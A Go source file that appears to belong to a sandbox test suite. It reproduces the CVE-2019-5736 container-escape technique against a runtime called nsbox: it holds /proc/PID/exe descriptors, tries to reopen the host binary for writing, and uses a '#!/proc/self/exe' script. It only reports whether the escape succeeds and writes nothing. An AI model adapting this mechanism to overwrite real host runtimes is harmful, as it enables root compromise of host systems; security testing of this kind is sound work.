package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// exeOverwrite is CVE-2019-5736 ("runc /proc/self/exe"): a process of the
// box opens /proc/PID/exe of every process that appears in the box — `nsbox
// exec` starts its child from the nsbox binary — keeps the descriptor, and
// once that process has gone reopens the file for writing through
// /proc/self/fd/N. Had it reached the runtime binary, the box would replace
// what the host runs as root. /tmp/evil, a script whose interpreter is
// /proc/self/exe, even makes the exec'd process run its own executable
// inside the box.
//
// Usage: attack exe-overwrite DIR DEV:INO
//
// DEV:INO is the nsbox binary on the host. ESCAPED: it was opened for
// writing. The CONTROL is /tmp/sleep, a copy of busybox (named for the
// applet it runs as) that the box may write and that the suite runs with
// exec: reopening it for writing once its process has gone must work, or
// the attack proves nothing.
func exeOverwrite(args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("usage: exe-overwrite DIR DEV:INO")
	}
	target := args[1]
	bb, err := os.ReadFile("/bin/busybox")
	if err != nil {
		return err
	}
	if err := os.WriteFile("/tmp/sleep", bb, 0o755); err != nil {
		return err
	}
	if err := os.WriteFile("/tmp/evil", []byte("#!/proc/self/exe\n"), 0o755); err != nil {
		return err
	}
	own := map[string]bool{pathKey("/bin/busybox"): true, pathKey("/tmp/sleep"): true, pathKey("/proc/self/exe"): true}
	w := &exeWatch{target: target, own: own}
	return watchBox(args[0], nil, w.probe, w.report)
}

type exeWatch struct {
	target string          // the nsbox binary
	own    map[string]bool // executables of the box
	t      tally
	mu     sync.Mutex
	errs   map[string]bool
}

func (w *exeWatch) note(s string) {
	w.mu.Lock()
	if w.errs == nil {
		w.errs = map[string]bool{}
	}
	w.errs[s] = true
	w.mu.Unlock()
}

// probe opens /proc/PID/exe while the process lives, keeping one
// descriptor per executable it runs, then tries to reopen each for writing.
func (w *exeWatch) probe(pid int) {
	exe := "/proc/" + strconv.Itoa(pid) + "/exe"
	held := map[string]int{}
	first := true
	deadline := time.Now().Add(5 * time.Second)
	for !gone(pid) && time.Now().Before(deadline) {
		fd, err := unix.Open(exe, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			if first && err != unix.ENOENT && err != unix.ESRCH {
				w.t.add("caught")
				w.note("open " + exe + ": " + errnoName(err.(unix.Errno)))
				first = false
			}
			runtime.Gosched()
			continue
		}
		key := fileKey(fd)
		if first && !w.own[key] {
			w.t.add("caught") // before the command: nsbox, its trampoline, or /tmp/evil's interpreter
		}
		first = false
		if _, ok := held[key]; ok {
			unix.Close(fd)
		} else {
			held[key] = fd
			if key == w.target {
				w.t.add("opened nsbox")
				wfd, err := unix.Open(exe, unix.O_WRONLY|unix.O_CLOEXEC, 0)
				w.reopened("open "+exe+" for writing", wfd, err)
			}
		}
		if w.own[key] {
			// The command runs: nothing more to catch until it ends.
			for !gone(pid) && time.Now().Before(deadline) {
				time.Sleep(5 * time.Millisecond)
			}
		}
		runtime.Gosched()
	}
	w.t.add("seen")
	for key, fd := range held {
		self := "/proc/self/fd/" + strconv.Itoa(fd)
		name, _ := os.Readlink(self)
		wfd, err := unix.Open(self, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		for i := 0; err == unix.ETXTBSY && i < 300; i++ {
			// Another process runs it (the suite's next exec): wait, as the
			// exploit does.
			time.Sleep(10 * time.Millisecond)
			wfd, err = unix.Open(self, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		}
		switch {
		case key == w.target:
			w.reopened("reopen "+name+" (the nsbox binary) for writing", wfd, err)
		case name == "/tmp/sleep" && err == nil:
			w.t.add("control")
			unix.Close(wfd)
		case name == "/tmp/sleep":
			w.note("control: reopen /tmp/sleep for writing: " + errText(err))
		case strings.Contains(name, "memfd:"):
			w.t.add("trampoline")
			if err == nil {
				unix.Close(wfd)
			}
		case err == nil:
			unix.Close(wfd)
		}
		unix.Close(fd)
	}
}

// reopened reports a write open of the nsbox binary (closed at once:
// nothing is written).
func (w *exeWatch) reopened(what string, fd int, err error) {
	if err == nil {
		unix.Close(fd)
		report("ESCAPED", "exe-write", "%s succeeded", what)
		return
	}
	w.t.add("write denied")
	w.note(what + ": " + errText(err))
}

func (w *exeWatch) report() {
	report("INFO", "coverage", "seen=%d caught=%d trampolines=%d opened-nsbox=%d", w.t.get("seen"), w.t.get("caught"),
		w.t.get("trampoline"), w.t.get("opened nsbox"))
	for e := range w.errs {
		report("INFO", "error", "%s", e)
	}
	if n := w.t.get("control"); n > 0 {
		report("CONTROL", "victim", "reopened /tmp/sleep for writing %d times after its process ended", n)
	}
	if w.t.get("opened nsbox") > 0 {
		report("BLOCKED", "exe-write", "the nsbox binary was opened read-only %d times, never for writing", w.t.get("opened nsbox"))
	} else {
		report("BLOCKED", "exe-open", "/proc/PID/exe never led to the nsbox binary (%d processes caught before their command)", w.t.get("caught"))
	}
}
